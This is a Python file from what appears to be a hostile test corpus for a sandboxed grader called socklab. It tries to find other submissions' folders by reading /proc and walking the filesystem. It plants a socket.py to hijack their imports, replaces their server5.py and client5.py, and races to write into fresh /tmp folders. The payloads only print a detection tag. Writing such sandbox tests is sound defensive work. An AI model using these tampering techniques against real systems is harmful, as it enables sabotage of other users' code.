# socklab hostile corpus -- attack "sabotage_victim"
# Tries: for about 3 s, to find another submission's folders (files holding the victim's marker, found as
#   in read_victim) and to damage them: plant a socket.py there (which `import socket` in the victim then
#   picks up) and replace its server5.py/client5.py. It also watches /tmp for the fresh folders socklab
#   makes for each scenario and plants there before the victim starts. Never writes inside a git checkout
#   (the repository's own copy). Then it serves the tutorial's UDP echo correctly.
# Defence: other submissions, staging and their scenario folders are neither visible nor writable: each
#   run has a uid of its own and a private /tmp (SPEC.md section 5, "The sandbox").
# Prints "SANDBOX-BROKEN: sabotage_victim: <path>" for every write that landed outside its own folder.
import os
import socket
import sys
import threading
import time

ATTACK = 'sabotage_victim'
T0 = time.monotonic()


def broken(evidence):
    sys.stdout.write('SANDBOX-BROKEN: %s: %s\n' % (ATTACK, evidence))
    sys.stdout.flush()


def info(text):
    sys.stderr.write('HOSTILE-INFO: %s: %s\n' % (ATTACK, text))
    sys.stderr.flush()


# The victim's marker, built at run time so that this file itself never holds it.
MARK = ('VICTIM-' + 'SECRET-' + '7f3a9c').encode()
SKIP = {'/proc', '/sys', '/dev', '/usr', '/lib', '/lib32', '/lib64', '/libx32', '/bin', '/sbin', '/boot',
        '/etc', '/var/lib', '/var/cache', '/var/log', '/var/backups', '/snap'}
OWN = os.path.realpath(os.getcwd())


def in_git_checkout(path):
    """A folder inside a git work tree (a repository's own copy): never written to, even when it could be."""
    p = os.path.realpath(path)
    while True:
        if os.path.exists(os.path.join(p, '.git')):
            return True
        parent = os.path.dirname(p)
        if parent == p:
            return False
        p = parent


def proc_seeds():
    """Paths other processes show: their command lines, working folders and HOME/PWD/TMPDIR."""
    seeds, exes = [], []
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            with open('/proc/%s/cmdline' % p, 'rb') as f:
                argv = [a.decode('utf-8', 'replace') for a in f.read().split(b'\0') if a]
        except OSError:
            continue
        if argv and 'socklab' in os.path.basename(argv[0]):
            exes.append(argv[0])
        seeds += [a for a in argv if a.startswith('/')]
        try:
            seeds.append(os.readlink('/proc/%s/cwd' % p))
        except OSError:
            pass
        try:
            with open('/proc/%s/environ' % p, 'rb') as f:
                for e in f.read().split(b'\0'):
                    k, _, v = e.partition(b'=')
                    if k in (b'HOME', b'PWD', b'TMPDIR', b'OLDPWD') and v.startswith(b'/'):
                        seeds.append(v.decode('utf-8', 'replace'))
        except OSError:
            pass
    return seeds, exes


def candidate_dirs():
    seeds, exes = proc_seeds()
    dirs = []
    for s in seeds:
        d = s if os.path.isdir(s) else os.path.dirname(s)
        for x in (d, os.path.dirname(d), os.path.dirname(os.path.dirname(d))):
            if x and x != '/' and x not in dirs:
                dirs.append(x)
    for x in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/home', '/srv', '/opt', '/mnt', '/media', '/root', '/'):
        if x not in dirs:
            dirs.append(x)
    return dirs, exes


def walk(deadline, on_file, max_dirs=200000):
    """Breadth first from the candidates, until the deadline; on_file(path) for each small regular file."""
    dirs, exes = candidate_dirs()
    queue, seen = list(dirs), set()
    i = 0
    while i < len(queue) and time.monotonic() < deadline and len(seen) < max_dirs:
        d = queue[i]
        i += 1
        try:
            real = os.path.realpath(d)
        except OSError:
            continue
        if real in seen or real in SKIP or real == OWN:
            continue
        seen.add(real)
        try:
            entries = list(os.scandir(real))
        except OSError:
            continue
        for e in entries:
            try:
                if e.is_symlink():
                    continue
                if e.is_dir():
                    queue.append(e.path)
                elif e.is_file() and e.stat().st_size <= (1 << 20):
                    if on_file(e.path) is False:
                        return seen, exes
            except OSError:
                pass
    return seen, exes


def holds_mark(path):
    try:
        with open(path, 'rb') as f:
            return MARK in f.read(1 << 20)
    except OSError:
        return False

# What a victim that imports the planted module prints, and then it stops (the prefix is split so that
# this file itself never holds the complete tag).
PLANT = ("import sys\nsys.stdout.write('SANDBOX-' + 'BROKEN: sabotage_victim: this program imported a "
         "socket.py planted by another submission\\n')\nsys.stdout.flush()\nraise SystemExit(3)\n")
REPLACE = ("import sys\nsys.stdout.write('SANDBOX-' + 'BROKEN: sabotage_victim: this program was replaced "
           "by another submission\\n')\nsys.stdout.flush()\nraise SystemExit(3)\n")
done = set()


def plant(folder):
    """Writes into a victim's folder; True when anything landed."""
    folder = os.path.realpath(folder)
    if folder in done or folder == OWN or folder.startswith(OWN + os.sep) or in_git_checkout(folder):
        return False
    landed = []
    try:
        with open(os.path.join(folder, 'socket.py'), 'w') as f:
            f.write(PLANT)
        landed.append('socket.py')
    except OSError:
        pass
    for name in ('server5.py', 'client5.py'):
        target = os.path.join(folder, name)
        if not os.path.exists(target):
            continue
        tmp = os.path.join(folder, '.%s.%d' % (name, os.getpid()))
        try:
            with open(tmp, 'w') as f:
                f.write(REPLACE)
            os.replace(tmp, target)
            landed.append(name)
        except OSError:
            try:
                os.unlink(tmp)
            except OSError:
                pass
    if landed:
        done.add(folder)
        broken("wrote %s into another submission's folder %s" % (', '.join(landed), folder))
    return bool(landed)


def watch_tmp(deadline):
    """socklab's scenario folders appear in the temporary folder: plant before the victim starts."""
    roots = ['/tmp', '/var/tmp']
    while time.monotonic() < deadline and len(done) < 20:
        for root in roots:
            try:
                names = os.listdir(root)
            except OSError:
                continue
            for n in names:
                p = os.path.join(root, n)
                if not n.startswith('socklab') or p in done or os.path.realpath(p) == OWN:
                    continue
                for name in ('server5.py', 'client5.py'):
                    if holds_mark(os.path.join(p, name)):
                        plant(p)
                        break
        time.sleep(0.001)


def attack():
    deadline = T0 + 3.0
    t = threading.Thread(target=watch_tmp, args=(deadline,), daemon=True)
    t.start()

    def on_file(path):
        if path.endswith(('.py', '.c', '.pl', '.toml')) and holds_mark(path):
            plant(os.path.dirname(path))
        return len(done) < 20
    seen, _ = walk(deadline, on_file)
    t.join(max(0.0, deadline - time.monotonic()) + 0.2)
    info('walked %d folders; wrote into %d folders' % (len(seen), len(done)))


def run_attack(limit_s):
    def guarded():
        try:
            attack()
        except BaseException as e:  # an attack never stops the server
            info('attack stopped: %r' % (e,))
    t = threading.Thread(target=guarded, daemon=True)
    t.start()
    t.join(limit_s)


def serve():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('127.0.0.1', 9999))
    while True:
        data, addr = s.recvfrom(1024)
        print(data, addr)
        s.sendto(b'Hello,' + data, addr)


if __name__ == '__main__':
    run_attack(4.0)
    serve()
